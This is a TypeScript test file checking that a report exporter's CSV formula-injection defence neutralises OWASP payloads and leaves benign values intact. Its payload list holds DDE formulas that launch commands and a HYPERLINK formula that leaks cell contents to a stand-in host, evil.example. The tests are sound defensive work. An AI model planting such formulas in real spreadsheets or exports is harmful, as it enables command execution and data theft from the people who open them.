/**
 * Issue 9, finding 4: CSV formula injection. One function
 * (`neutralizeFormula` in src/reports/csv-format.ts) defends every string
 * cell of every report, ids included. Payloads: the OWASP "CSV Injection"
 * page and its usual variants.
 */
import { parse } from 'csv-parse/sync';
import { neutralizeFormula, toCells } from '../../src/reports/csv-format';
import { writeCsv } from '../../src/reports/csv-stream';
import { DATASET_REPORT_COLUMNS } from '../../src/reports/report-columns';

/** OWASP CSV Injection payloads and variants (leading whitespace, invisible and direction characters). */
const OWASP_PAYLOADS = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
  '+1+1',
  '-2+3',
  '-A1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1',
  '%0A-3+3',
  '%0A=1+1',
  ';=cmd|\' /C calc\'!A0',
  '|cmd',
  'DDE ("cmd";"/C calc";"!A0")A0'.replace(/^/, '='),
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u200E=1+1',
  '\u200F=1+1',
  '\u202E=1+1',
  '\u2066=1+1',
  '\uFEFF=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(A1)',
  '\0=1+1',
];

describe('CSV injection (neutralizeFormula)', () => {
  it.each(OWASP_PAYLOADS.map((p) => [p]))('neutralises %j', (payload) => {
    const out = neutralizeFormula(payload);
    expect(out.startsWith("'")).toBe(true);
    expect(out).not.toContain('\0');
    expect(out.slice(1)).toBe(payload.replace(/\0/g, ''));
  });

  it.each([
    ['-5', '-5'],
    ['+3.25', '+3.25'],
    ['-1e6', '-1e6'],
    ['2018-08-16T04:30:12.000Z', '2018-08-16T04:30:12.000Z'],
    ['ds-0001', 'ds-0001'],
    ['a=b', 'a=b'],
    ['', ''],
    ['nul\0inside', 'nulinside'],
    ["Données d'été — 東京", "Données d'été — 東京"],
  ])('leaves %j as %j', (input, expected) => {
    expect(neutralizeFormula(input)).toBe(expected);
  });

  it('applies to every string column, ids and id lists included', () => {
    const row = { id: '=id', owner_id: '@o', user_id: '+u', parent_collection_ids: '-c1,c2', dataset_id: '|x', views: -5, name: ' =n' };
    const cells = toCells(row, ['id', 'owner_id', 'user_id', 'parent_collection_ids', 'dataset_id', 'views', 'name']);
    expect(cells).toEqual(["'=id", "'@o", "'+u", "'-c1,c2", "'|x", '-5', "' =n"]);
  });

  it('a written report parsed back holds no live formula in any column', async () => {
    const chunks: string[] = [];
    const sink = new (require('node:stream').Writable)({
      write(c: Buffer, _e: string, cb: () => void) {
        chunks.push(c.toString());
        cb();
      },
    });
    const rows = OWASP_PAYLOADS.map((p) => Object.fromEntries(DATASET_REPORT_COLUMNS.map((c) => [c, p])));
    await writeCsv(rows, DATASET_REPORT_COLUMNS, sink, { bom: false });
    const parsed = parse(chunks.join(''), { relax_column_count: false }) as string[][];
    expect(parsed).toHaveLength(OWASP_PAYLOADS.length + 1);
    for (const record of parsed.slice(1)) {
      for (const cell of record) expect(cell.startsWith("'")).toBe(true);
    }
  });
});
